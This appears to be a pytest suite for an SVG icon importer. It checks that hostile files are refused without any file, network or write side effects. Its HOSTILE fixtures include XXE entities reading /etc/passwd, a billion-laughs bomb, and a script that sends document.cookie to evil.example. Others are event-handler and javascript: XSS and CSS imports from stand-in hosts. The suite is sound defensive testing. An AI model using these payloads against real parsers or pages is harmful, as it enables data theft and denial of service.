"""Hostile SVGs are refused by the importer: the right reason code, nothing written, no file or
network touched beyond the input itself, and quickly — even for 50 MB and million-node files."""

from __future__ import annotations

import os
import time
import tracemalloc

import pytest

from designer.base.errors import UnsafeSVGError
from designer.icon_library.importer import import_icon

NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
PATH = '<path d="M4 4h16v16H4z"/>'

HOSTILE = {
    "xxe": ("dtd", f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                   f"<svg {NS}><text>&x;</text>{PATH}</svg>"),
    "xxe-parameter-entity": ("dtd", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
                                    f"<svg {NS}>{PATH}</svg>"),
    "billion-laughs": ("dtd", '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                              + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                                        for i in range(1, 10))
                              + f"]>\n<svg {NS}><text>&lol9;</text></svg>"),
    "external-dtd": ("dtd", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
                            f"<svg {NS}>{PATH}</svg>"),
    "script": ("script", f"<svg {NS}>{PATH}<script>fetch('https://evil.example/'+document.cookie)</script></svg>"),
    "script-in-metadata": ("script", f"<svg {NS}><metadata><script>alert(1)</script></metadata>{PATH}</svg>"),
    "onload": ("event-handler", f'<svg {NS} onload="alert(1)">{PATH}</svg>'),
    "onclick-on-shape": ("event-handler", f'<svg {NS}><path onclick="alert(1)" d="M4 4h16"/></svg>'),
    "xlink-href-file": ("external-href", f'<svg {NS} {XLINK}><path xlink:href="file:///etc/passwd" d="M4 4h16"/></svg>'),
    "use-local": ("use", f'<svg {NS} {XLINK}><path id="p" d="M4 4h16"/><use xlink:href="#p" x="2"/></svg>'),
    "use-external": ("use", f'<svg {NS} {XLINK}><use xlink:href="file:///etc/passwd#x"/></svg>'),
    "image-http": ("raster-image", f'<svg {NS}><image href="http://127.0.0.1:9/x.png" width="24" height="24"/></svg>'),
    "image-data": ("raster-image", f'<svg {NS}><image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/></svg>'),
    "css-url-style-attribute": ("css-url", f'<svg {NS}><path style="fill:url(http://127.0.0.1:9/p.svg#g)" d="M4 4h16"/></svg>'),
    "css-url-fill": ("css-url", f'<svg {NS}><path fill="url(\'file:///etc/passwd#x\')" d="M4 4h16"/></svg>'),
    "css-url-style-element": ("css-url", f"<svg {NS}><style>path{{fill:url(https://evil.example/a.svg#g)}}</style>{PATH}</svg>"),
    "css-import": ("css-import", f'<svg {NS}><style>@import "https://evil.example/a.css";</style>{PATH}</svg>'),
    "stylesheet-pi": ("stylesheet", f'<?xml-stylesheet href="http://127.0.0.1:9/a.css"?><svg {NS}>{PATH}</svg>'),
    "foreign-object": ("foreign-object", f'<svg {NS}><foreignObject width="24" height="24">'
                                         '<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://x"/></body>'
                                         f"</foreignObject>{PATH}</svg>"),
    "javascript-link": ("link", f'<svg {NS} {XLINK}><a xlink:href="javascript:alert(1)">{PATH}</a></svg>'),
    "set-animation": ("animation", f'<svg {NS}><path d="M4 4h16"><set attributeName="fill" to="red"/></path></svg>'),
    "css-escape": ("css-escape", f'<svg {NS}><path style="fill:u\\72l(http://127.0.0.1:9/x)" d="M4 4h16"/></svg>'),
    "not-svg": ("not-svg", "<html><body>hello</body></html>"),
    "malformed": ("not-xml", f"<svg {NS}><path d='M4 4'></svg>"),
    "empty-file": ("not-xml", ""),
    "deep-nesting": ("too-deep", f"<svg {NS}>" + "<g>" * 100 + PATH + "</g>" * 100 + "</svg>"),
    "node-flood-small-file": ("too-many-nodes", f"<svg {NS}>" + "<g/>" * 10_000 + "</svg>"),
}


def refused(source, dest, io_recorder, **options) -> UnsafeSVGError:
    """Run the import under the I/O recorder; return the refusal after checking its side effects."""
    started = time.perf_counter()
    with io_recorder, pytest.raises(UnsafeSVGError) as caught:
        import_icon(source, "hostile", dest, **options)
    assert time.perf_counter() - started < 5
    assert not dest.exists()
    assert set(io_recorder.opens) <= {str(source)}, io_recorder.opens
    assert io_recorder.network == []
    return caught.value


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_svg_is_refused(case, tmp_path, io_recorder):
    reason, text = HOSTILE[case]
    source = tmp_path / f"{case}.svg"
    source.write_text(text, encoding="utf-8")
    error = refused(source, tmp_path / "dest", io_recorder)
    assert error.reason == reason
    assert error.exit_code == 2
    assert error.location.path.endswith(f"{case}.svg") and error.hint


def test_fifty_megabyte_file_is_refused_unread(tmp_path, io_recorder):
    source = tmp_path / "huge.svg"
    with open(source, "w") as stream:
        stream.write(f'<svg {NS}><path d="M0 0')
        chunk = " L1 1" * 200_000
        while stream.tell() < 50 * 1024 * 1024:
            stream.write(chunk)
        stream.write('"/></svg>')
    error = refused(source, tmp_path / "dest", io_recorder)
    assert error.reason == "too-large"
    assert io_recorder.opens == []  # refused from stat(), before opening


def _million_nodes(path):
    with open(path, "w") as stream:
        stream.write(f"<svg {NS}>")
        for _ in range(100):
            stream.write('<circle r="1"/>' * 10_000)
        stream.write("</svg>")


def test_million_node_file_is_refused(tmp_path, io_recorder):
    source = tmp_path / "nodes.svg"
    _million_nodes(source)
    assert refused(source, tmp_path / "dest", io_recorder).reason == "too-large"


def test_million_node_file_is_refused_while_streaming_even_without_a_byte_bound(tmp_path, io_recorder):
    source = tmp_path / "nodes.svg"
    _million_nodes(source)
    tracemalloc.start()
    try:
        error = refused(source, tmp_path / "dest", io_recorder, max_bytes=10**9)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert error.reason == "too-many-nodes"
    assert peak < 20 * 1024 * 1024  # the 15 MB file was never built into a million-element tree


def test_growing_or_special_files_are_bounded_while_reading(tmp_path, io_recorder):
    fifo = tmp_path / "pipe.svg"
    os.mkfifo(fifo)
    assert refused(fifo, tmp_path / "dest", io_recorder).reason == "not-a-file"


def test_missing_file_is_refused(tmp_path, io_recorder):
    # a typo in the path is "no such file", not an unsafe SVG; nothing is read, nothing written
    from designer.base.errors import MedbadgeError

    with io_recorder, pytest.raises(MedbadgeError) as caught:
        import_icon(tmp_path / "absent.svg", "hostile", tmp_path / "dest")
    assert not isinstance(caught.value, UnsafeSVGError) and caught.value.message == "no such file"
    assert not (tmp_path / "dest").exists() and io_recorder.opens == []


def test_refusal_leaves_an_existing_folder_untouched(tmp_path, io_recorder):
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "catalog.toml").write_text("# mine\n")
    source = tmp_path / "x.svg"
    source.write_text(HOSTILE["script"][1])
    with io_recorder, pytest.raises(UnsafeSVGError):
        import_icon(source, "hostile", dest)
    assert sorted(p.name for p in dest.iterdir()) == ["catalog.toml"]
    assert (dest / "catalog.toml").read_text() == "# mine\n"


def test_the_recorder_would_notice_file_and_network_access(tmp_path, io_recorder):
    """Guards the guard: the audit hook really sees opens and connection attempts."""
    import socket

    with io_recorder:
        (tmp_path / "touched.txt").write_text("x")
        with socket.socket() as sock:
            sock.settimeout(0.2)
            try:
                sock.connect(("127.0.0.1", 9))
            except OSError:
                pass
    assert str(tmp_path / "touched.txt") in io_recorder.opens
    assert any(event == "socket.connect" for event, _ in io_recorder.network)
